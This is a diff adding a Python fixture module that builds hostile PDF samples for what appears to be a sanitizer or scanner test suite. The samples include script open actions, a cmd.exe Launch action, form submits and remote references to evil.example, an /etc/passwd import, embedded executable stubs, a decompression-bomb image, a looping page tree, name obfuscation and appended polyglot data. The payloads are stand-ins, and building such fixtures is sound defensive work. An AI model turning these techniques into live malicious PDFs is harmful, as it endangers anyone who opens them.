@@ -1,0 +1,220 @@
+"""Hostile PDF files, each made here and named by its trick."""
+
+from __future__ import annotations
+
+import io
+import zlib
+from collections.abc import Callable
+
+import pikepdf
+from pikepdf import Array, Dictionary, Encryption, Name, Pdf, Permissions, Stream, String
+
+SCRIPT = String("app.alert(1)")
+JAVASCRIPT = Dictionary(S=Name.JavaScript, JS=SCRIPT)
+BOX = Array([0, 0, 100, 100])
+
+
+def written(*changes: Callable[[Pdf], None], pages: int = 1, **options: object) -> bytes:
+    """A PDF of plain pages, changed, and saved with these options."""
+    with Pdf.new() as document:
+        for _ in range(pages):
+            page = document.add_blank_page(page_size=(300, 300))
+            page.Contents = document.make_stream(b"0 0 1 rg 50 50 100 100 re f")
+        for change in changes:
+            change(document)
+        target = io.BytesIO()
+        document.save(target, **options)
+        return target.getvalue()
+
+
+def in_root(key: str, value: object) -> Callable[[Pdf], None]:
+    def change(document: Pdf) -> None:
+        document.Root[key] = value
+
+    return change
+
+
+def in_page(key: str, value: object) -> Callable[[Pdf], None]:
+    def change(document: Pdf) -> None:
+        document.pages[0].obj[key] = value
+
+    return change
+
+
+def annotated(**members: object) -> Callable[[Pdf], None]:
+    """An annotation on the first page."""
+
+    def change(document: Pdf) -> None:
+        annotation = Dictionary(Type=Name.Annot, Rect=BOX, **members)
+        document.pages[0].obj.Annots = Array([document.make_indirect(annotation)])
+
+    return change
+
+
+def with_file(document: Pdf) -> Dictionary:
+    """A file specification with a program in it."""
+    stream = document.make_stream(b"MZ this program runs")
+    stream.Type = Name.EmbeddedFile
+    return document.make_indirect(
+        Dictionary(Type=Name.Filespec, F=String("setup.exe"), UF=String("setup.exe"), EF=Dictionary(F=stream))
+    )
+
+
+def embedded(document: Pdf) -> None:
+    document.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("setup.exe"), with_file(document)])))
+
+
+def associated(document: Pdf) -> None:
+    document.Root.AF = Array([with_file(document)])
+
+
+def attached_to_a_page(document: Pdf) -> None:
+    annotated(Subtype=Name.FileAttachment, FS=with_file(document))(document)
+
+
+def drawn(subtype: str, **members: object) -> Callable[[Pdf], None]:
+    """An XObject that the page draws."""
+
+    def change(document: Pdf) -> None:
+        stream = Stream(document, b"0 g 0 0 10 10 re f")
+        stream.Type, stream.Subtype = Name.XObject, Name(subtype)
+        for key, value in members.items():
+            stream["/" + key] = value
+        page = document.pages[0].obj
+        page.Resources = Dictionary(XObject=Dictionary(X=document.make_indirect(stream)))
+        page.Contents = document.make_stream(b"/X Do")
+
+    return change
+
+
+def field(**members: object) -> Callable[[Pdf], None]:
+    """A form with one field."""
+
+    def change(document: Pdf) -> None:
+        widget = document.make_indirect(
+            Dictionary(
+                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("x"), V=String("1"), Rect=BOX, **members
+            )
+        )
+        document.pages[0].obj.Annots = Array([widget])
+        document.Root.AcroForm = Dictionary(Fields=Array([widget]))
+
+    return change
+
+
+def xfa(document: Pdf) -> None:
+    packet = document.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x()</script></xdp:xdp>")
+    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=packet)
+
+
+def titled(document: Pdf) -> None:
+    document.docinfo["/Author"] = String("<script>alert(1)</script>")
+    document.Root.Metadata = document.make_stream(b"<x:xmpmeta><script/></x:xmpmeta>")
+
+
+def content(data: bytes, **members: object) -> Callable[[Pdf], None]:
+    """Content as it is stored, with its filters."""
+
+    def change(document: Pdf) -> None:
+        stream = Stream(document, data)
+        for key, value in members.items():
+            stream["/" + key] = value
+        document.pages[0].obj.Contents = document.make_indirect(stream)
+
+    return change
+
+
+def huge_image(document: Pdf) -> None:
+    side = 60_000
+    image = Stream(document, b"")
+    image.write(deflated(side * side // 8), filter=Name.FlateDecode)
+    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, side, side
+    image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 1
+    page = document.pages[0].obj
+    page.Resources = Dictionary(XObject=Dictionary(X=document.make_indirect(image)))
+    page.Contents = document.make_stream(b"300 0 0 300 0 0 cm /X Do")
+
+
+def deflated(size: int, byte: bytes = b"\0") -> bytes:
+    """As many bytes as said, deflated a piece at a time."""
+    packer, piece = zlib.compressobj(9), byte * (1 << 20)
+    parts = [packer.compress(piece) for _ in range(size >> 20)]
+    return b"".join(parts) + packer.compress(byte * (size % (1 << 20))) + packer.flush()
+
+
+def looping(document: Pdf) -> None:
+    document.Root.Pages.Kids = Array([document.Root.Pages])
+
+
+def escaped() -> bytes:
+    """A name written otherwise; the script loses as many bytes as the name gains, so that the offsets stay true."""
+    plain = written(in_root("/OpenAction", JAVASCRIPT))
+    return plain.replace(b"(app.alert", b"(app.a").replace(b"/JavaScript", b"/J#61v#61Script")
+
+
+URI = Dictionary(S=Name.URI, URI=String("https://evil.example/"))
+LAUNCH = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
+
+# Those whose pages are sound: what is hostile hangs on them.
+ACTIVE: dict[str, Callable[[], bytes]] = {
+    "open_action_script": lambda: written(in_root("/OpenAction", JAVASCRIPT)),
+    "open_action_launch": lambda: written(in_root("/OpenAction", LAUNCH)),
+    "script_when_closing": lambda: written(in_root("/AA", Dictionary(WC=JAVASCRIPT))),
+    "script_when_a_page_opens": lambda: written(in_page("/AA", Dictionary(O=JAVASCRIPT))),
+    "script_in_the_names": lambda: written(
+        in_root("/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), JAVASCRIPT]))))
+    ),
+    "launch_behind_a_link": lambda: written(annotated(Subtype=Name.Link, A=LAUNCH)),
+    "address_behind_a_link": lambda: written(annotated(Subtype=Name.Link, A=URI)),
+    "remote_document": lambda: written(
+        annotated(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("//evil.example/share"), D=Array([0])))
+    ),
+    "form_that_submits": lambda: written(
+        annotated(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))
+    ),
+    "form_that_imports": lambda: written(
+        annotated(Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("/etc/passwd")))
+    ),
+    "chain_of_actions": lambda: written(in_root("/OpenAction", Dictionary(S=Name.GoTo, D=Array([0]), Next=JAVASCRIPT))),
+    "embedded_file": lambda: written(embedded),
+    "associated_file": lambda: written(associated),
+    "file_on_a_page": lambda: written(attached_to_a_page),
+    "rich_media": lambda: written(annotated(Subtype=Name("/RichMedia"), RichMediaContent=Dictionary())),
+    "three_dimensions": lambda: written(annotated(Subtype=Name("/3D"), A=JAVASCRIPT)),
+    "rendition": lambda: written(annotated(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, JS=SCRIPT))),
+    "movie": lambda: written(annotated(Subtype=Name.Movie, Movie=Dictionary(F=String("m.avi")), A=True)),
+    "script_in_a_field": lambda: written(field(AA=Dictionary(K=JAVASCRIPT))),
+    "xfa": lambda: written(xfa),
+    "script_in_an_object_stream": lambda: written(
+        in_root("/OpenAction", JAVASCRIPT), object_stream_mode=pikepdf.ObjectStreamMode.generate
+    ),
+    "escaped_name": escaped,
+    "metadata": lambda: written(titled),
+    "linearized_script": lambda: written(in_root("/OpenAction", JAVASCRIPT), linearize=True),
+    "reference_to_another_file": lambda: written(
+        drawn("/Form", BBox=BOX, Ref=Dictionary(F=String("//evil.example/x.pdf"), Page=0))
+    ),
+    "alternate_image": lambda: written(drawn("/Form", BBox=BOX, OPI=Dictionary(), Metadata=String("x"), AF=Array([]))),
+    "archive_behind_it": lambda: written() + b"PK\x03\x04" + b"\0" * 26 + b"evil.exePK\x05\x06" + b"\0" * 18,
+    "program_behind_it": lambda: written() + b"\nMZ\x90\0 this program runs\n",
+    "page_behind_it": lambda: written() + b"\n<html><script>alert(1)</script></html>\n",
+}
+
+# Those that draw with parts of another file, or of a kind that none should have.
+FOREIGN: dict[str, Callable[[], bytes]] = {
+    "external_stream": lambda: written(drawn("/Form", BBox=BOX, F=String("//evil.example/x"))),
+    "postscript": lambda: written(drawn("/PS")),
+}
+
+
+def locked(user: str) -> bytes:
+    return written(encryption=Encryption(owner="owner", user=user, R=6, allow=Permissions(extract=False)))
+
+
+ENCRYPTED = {"password": lambda: locked("user"), "empty_password": lambda: locked("")}
+TRUNCATED = {"cut_in_half": lambda: written()[: len(written()) // 2]}
+DAMAGED = {
+    "endless_pages": lambda: written(looping),
+    "moved_table": lambda: written().replace(b"startxref\n", b"startxref\n9"),
+    "no_pages": lambda: written(in_root("/Pages", Dictionary(Type=Name.Pages, Kids=Array([]), Count=0))),
+}
